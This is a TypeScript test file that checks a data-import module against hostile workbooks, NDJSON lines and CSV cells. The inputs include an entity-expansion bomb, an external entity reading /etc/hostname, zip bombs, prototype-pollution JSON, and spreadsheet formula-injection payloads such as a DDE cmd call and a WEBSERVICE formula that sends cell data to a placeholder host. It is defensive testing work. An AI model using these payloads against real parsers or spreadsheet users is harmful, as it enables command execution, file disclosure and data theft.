import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { crc32, deflateRawSync } from 'node:zlib';
import { afterAll, describe, expect, it } from 'vitest';
import { AppFailure } from '../../errors/index.ts';
import { csvLine, unguarded } from '../table/cells.ts';
import { openFile } from './open-file.ts';

const folder = mkdtempSync(join(tmpdir(), 'hostile-'));
afterAll(() => {
  rmSync(folder, { recursive: true });
});

const put = (name: string, content: string | Buffer): string => {
  const path = join(folder, name);
  writeFileSync(path, content);
  return path;
};

/** What a file says in all, or the code of the failure that it ends in. */
async function said(path: string): Promise<unknown> {
  const rows: unknown[] = [];
  try {
    const file = await openFile(path, {});
    if (file.form === 'documents') for await (const { row } of file.rows) rows.push(row.document);
    else {
      rows.push(file.headings);
      for await (const { row } of file.rows) rows.push(row.cells);
    }
  } catch (failure) {
    if (failure instanceof AppFailure) return failure.why;
    throw failure;
  }
  return rows;
}

interface Part {
  readonly name: string;
  readonly text: string | Buffer;
  /** What the directory says instead of the truth. */
  readonly claimedBytes?: number;
}

/** A ZIP archive, as APPNOTE describes it. */
function zip(parts: readonly Part[]): Buffer {
  const [bodies, directory]: [Buffer[], Buffer[]] = [[], []];
  let at = 0;
  for (const { name, text, claimedBytes } of parts) {
    const bytes = Buffer.from(text);
    const packed = deflateRawSync(bytes);
    const shared = Buffer.alloc(26);
    shared.writeUInt16LE(20, 0);
    shared.writeUInt16LE(8, 4);
    shared.writeUInt32LE(crc32(bytes), 10);
    shared.writeUInt32LE(packed.length, 14);
    shared.writeUInt32LE(claimedBytes ?? bytes.length, 18);
    shared.writeUInt16LE(name.length, 22);
    const head = Buffer.concat([Buffer.from('PK\u0003\u0004'), shared, Buffer.from(name), packed]);
    const place = Buffer.alloc(14);
    place.writeUInt32LE(at, 10);
    directory.push(
      Buffer.concat([Buffer.from('PK\u0001\u0002\u0014\u0000'), shared, place, Buffer.from(name)]),
    );
    bodies.push(head);
    at += head.length;
  }
  const listed = Buffer.concat(directory);
  const end = Buffer.alloc(22);
  end.write('PK\u0005\u0006', 'latin1');
  end.writeUInt16LE(parts.length, 8);
  end.writeUInt16LE(parts.length, 10);
  end.writeUInt32LE(listed.length, 12);
  end.writeUInt32LE(at, 16);
  return Buffer.concat([...bodies, listed, end]);
}

const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
const relations = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const packageRelations = 'http://schemas.openxmlformats.org/package/2006/relationships';
const row = (no: number, ...texts: string[]): string => {
  const cells = texts.map(
    (text, i) => `<c r="${'ABC'.charAt(i)}${String(no)}" t="inlineStr"><is><t>${text}</t></is></c>`,
  );
  return `<row r="${String(no)}">${cells.join('')}</row>`;
};

/** A workbook of one sheet. */
const workbook = (rows: string, prolog = ''): Part[] => [
  {
    name: 'xl/workbook.xml',
    text: `${prolog}<workbook xmlns="${main}" xmlns:r="${relations}"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets></workbook>`,
  },
  {
    name: 'xl/_rels/workbook.xml.rels',
    text: `<Relationships xmlns="${packageRelations}"><Relationship Id="rId1" Type="${relations}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
  },
  {
    name: 'xl/worksheets/sheet1.xml',
    text: `${prolog}<worksheet xmlns="${main}"><sheetData>${rows}</sheetData></worksheet>`,
  },
];
const sheet = (name: string, parts: readonly Part[]): Promise<unknown> =>
  said(put(`${name}.xlsx`, zip(parts)));

const laughs = `<!DOCTYPE x [<!ENTITY a "ha">${Array.from({ length: 30 }, (_, i) => {
  const [name, before] = [String.fromCharCode(98 + (i % 25)), String.fromCharCode(97 + (i % 25))];
  return `<!ENTITY ${name} "&${before};&${before};&${before};&${before};">`;
}).join('')}]>`;
const outside = `<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/hostname">]>`;

describe('a hostile workbook', () => {
  it('is read when it is none', async () => {
    expect(await sheet('plain', workbook(row(1, 'node', 'item') + row(2, 'st_a', 'OAT')))).toEqual([
      ['node', 'item'],
      ['st_a', 'OAT'],
    ]);
  });

  it('has no entity expanded, and none fetched: neither a bomb nor a file of this machine', async () => {
    for (const [name, prolog, entity] of [
      ['laughs', laughs, '&y;'],
      ['outside', outside, '&secret;'],
    ] as const) {
      const startedAt = process.cpuUsage();
      const read = await sheet(name, workbook(row(1, 'node') + row(2, entity), prolog));
      const told = JSON.stringify(read);
      expect(told.length).toBeLessThan(1_000);
      expect(told).not.toContain('haha');
      expect(process.cpuUsage(startedAt).user / 1_000).toBeLessThan(1_000);
    }
  });

  it('is not unpacked when it is a bomb, has thousands of parts or is broken', async () => {
    const bomb: Part = { name: 'xl/worksheets/sheet1.xml', text: Buffer.alloc(20 * 1_048_576) };
    expect(await sheet('bomb', [...workbook(''), bomb])).toContain('times its size');
    const parts = Array.from({ length: 4_001 }, (_, i) => ({ name: `p${String(i)}`, text: '' }));
    expect(await sheet('parts', parts)).toContain('4000 parts');
    expect(await said(put('none.xlsx', 'PK but no more'))).toContain('no workbook');
    const whole = zip(workbook(row(1, 'node')));
    whole.writeUInt32LE(whole.length, whole.length - 6);
    expect(await said(put('broken.xlsx', whole))).toContain('parts are broken');
  });

  it('whose directory lies about its size fails, or says what it says, and fills no memory', async () => {
    const [book, rels, rows] = workbook(row(1, 'node').repeat(200_000));
    const before = process.memoryUsage().rss;
    const read = await sheet('liar', [book, rels, { ...rows, claimedBytes: 100 }] as Part[]);
    expect(read === undefined || JSON.stringify(read).length < 20_000_000).toBe(true);
    expect(process.memoryUsage().rss - before).toBeLessThan(512 * 1_048_576);
  });

  it('may nest as deep as it likes: it is read or refused, within a second', async () => {
    const startedAt = process.cpuUsage();
    const deep = '<a>'.repeat(100_000) + '</a>'.repeat(100_000);
    const read = await sheet('deep', workbook(row(1, 'node') + deep));
    expect(typeof read === 'string' || Array.isArray(read)).toBe(true);
    expect(process.cpuUsage(startedAt).user / 1_000).toBeLessThan(1_000);
  });
});

describe('a hostile line of NDJSON', () => {
  it.each([
    ['a key twice', '{"a":1,"a":2}'],
    ['a prototype', '{"__proto__":{"x":1}}'],
    ['a number that loses digits', '{"a":9007199254740993}'],
    ['a number without end', '{"a":1e400}'],
    ['nesting without end', `{"a":${'['.repeat(50_000)}`],
    ['a list', '[1]'],
    ['no JSON', '{a:1}'],
  ])('with %s is told from its neighbours, which are read', async (_, line) => {
    const path = put('lines.ndjson', `{"n":1}\n${line}\n{"n":2}\n`);
    expect(await said(path)).toEqual([{ n: 1 }, undefined, { n: 2 }]);
  });
});

describe('a hostile CSV file', () => {
  it.each([
    ['an open quote', 'a,b\n"x,y\n'],
    ['a quote in the middle', 'a,b\nx"y"z,1\n'],
    ['more cells than headings', 'a,b\n1,2,3,4\n'],
    ['NUL', 'a,b\n\u0000,\u0000\n'],
    ['nothing', ''],
    ['only a mark', '\ufeff'],
    ['bytes of no encoding', Buffer.from([0x61, 0x2c, 0xff, 0xfe, 0xc0, 0x80])],
    ['half of UTF-16', Buffer.from([0xff, 0xfe, 0x61, 0x00, 0x2c])],
    ['a line of a megabyte', `a,b\n"${'x'.repeat(1_000_000)}",1\n`],
    ['a hundred thousand columns', `${'a,'.repeat(100_000)}a\n`],
    ['only carriage returns', 'a,b\r1,2\r'],
  ])('with %s is read or refused, and ends', async (name, content) => {
    const startedAt = process.cpuUsage();
    const read = await said(put(`${name}.csv`, content));
    expect(typeof read === 'string' || Array.isArray(read)).toBe(true);
    expect(process.cpuUsage(startedAt).user / 1_000).toBeLessThan(2_000);
  });
});

describe('a cell that a spreadsheet would run', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("http://x","y")',
    "=cmd|' /C calc'!A0",
    '+1+cmd',
    '-2+3',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    "'=1",
    "''=1",
    '=WEBSERVICE("http://x/?"&A1)',
    '－=1',
  ])('such as %j is written as a text, and read back as it was', (text) => {
    const written = csvLine([text]);
    expect(written).not.toMatch(/^"?[=+\-@\t\r]/);
    const cellText = written.replace(/\r\n$/, '').replace(/^"|"$/g, '').replaceAll('""', '"');
    expect(unguarded(cellText)).toBe(text);
  });

  it('is no number: those stay as they are', () => {
    expect(csvLine(['-2', '+3.5', '-0,5'])).toBe('-2,+3.5,"-0,5"\r\n');
  });
});
